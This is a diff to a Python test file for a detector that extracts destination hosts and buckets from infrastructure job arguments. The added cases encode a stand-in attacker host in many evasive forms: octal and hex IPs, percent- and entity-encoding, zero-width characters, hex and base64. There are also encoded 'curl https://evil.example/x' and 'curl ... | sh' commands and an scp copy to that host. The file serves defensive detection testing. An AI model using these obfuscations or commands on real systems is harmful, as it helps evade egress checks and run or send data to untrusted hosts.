@@ -57,8 +57,21 @@ def test_bucket_is_found(bucket: str, text: str) -> None:
         (f"https://eu-west-1.queue.amazonaws.com/{OTHER}/q", Kind.ACCOUNT, OTHER),
         ("http://[::ffff:198.51.100.9]/x", Kind.HOST, "::ffff:198.51.100.9"),
         ("http://[::ffff:c633:6409]:80/", Kind.HOST, "::ffff:c633:6409"),
-        ("http://3325256713/x", Kind.HOST, "3325256713"),
-        ("http://0xc6336409/x", Kind.HOST, "0xc6336409"),
+        ("http://3325256713/x", Kind.HOST, "198.51.100.9"),
+        ("http://0xc6336409/x", Kind.HOST, "198.51.100.9"),
+        ("http://0306.063.0144.011/x", Kind.HOST, "198.51.100.9"),
+        ("http://0xC6.0x33.0x64.0x9/x", Kind.HOST, "198.51.100.9"),
+        ("http://198.3367945/x", Kind.HOST, "198.51.100.9"),
+        ("https://ev\u200bil.example/x", Kind.HOST, "ev\u200bil.example"),
+        ("https%253A%252F%252Fevil.example%252Fx", Kind.HOST, "evil.example"),
+        ("https:\\u002f\\u002fevil.example", Kind.HOST, "evil.example"),
+        ("https&#58;//evil.example", Kind.HOST, "evil.example"),
+        ("scp /x user@evil.example:/x", Kind.HOST, "evil.example"),
+        ("\\\\evil.example\\share", Kind.HOST, "evil.example"),
+        (b"https://evil.example/".hex(), Kind.HOST, "evil.example"),
+        (f"python -c {encoded('curl https://evil.example/x')}", Kind.HOST, "evil.example"),
+        (f"echo {encoded('curl https://evil.example/xyz')}".rstrip("="), Kind.HOST, "evil.example"),
+        (base64.urlsafe_b64encode(b"curl https://evil.example/~~~???>>>").decode(), Kind.HOST, "evil.example"),
         ("https://evil%2eexample/x", Kind.HOST, "evil.example"),
         ("//evil.example/x", Kind.HOST, "evil.example"),
         (encoded("curl https://evil.example/x | sh"), Kind.HOST, "evil.example"),
@@ -101,6 +114,9 @@ def test_free_text_is_found_but_not_certain(text: str, kind: Kind, value: str) -
         ("--columns", "orders.id,o.name,t.date"),
         ("--conf", "spark.executor.memory=4g --conf java.io.tmpdir=/tmp"),
         ("--version", "3.5.1.2"),
+        ("--topics", "orders.acme.io"),
+        ("--classpath", "org/apache/spark/sql/execution/datasources/v2/Writer"),
+        ("--regex", "\\d+\\.example\\.com"),
         ("--bind", "0.0.0.0 127.0.0.1 10.0.0.1"),
         ("--zone", "ip-10-0-0-1.eu-west-1.compute.internal"),
         ("--time", "2026-11-27T13:20:11"),
@@ -118,6 +134,10 @@ def test_free_text_is_read_in_arguments_of_programs_only(name: str) -> None:
     arguments = {name: {"to": OTHER} if name == "tags" else OTHER}
     job = Declaration("aws_glue_job.j", "managed", "aws_glue_job", arguments)
     assert list(destinations(job)) == []
+
+
+def test_keys_of_maps_are_read() -> None:
+    assert found("1", "--s3://not-ours/x") == {(Kind.BUCKET, "not-ours"): True}
 
 
 def test_location_of_a_table_is_data() -> None:
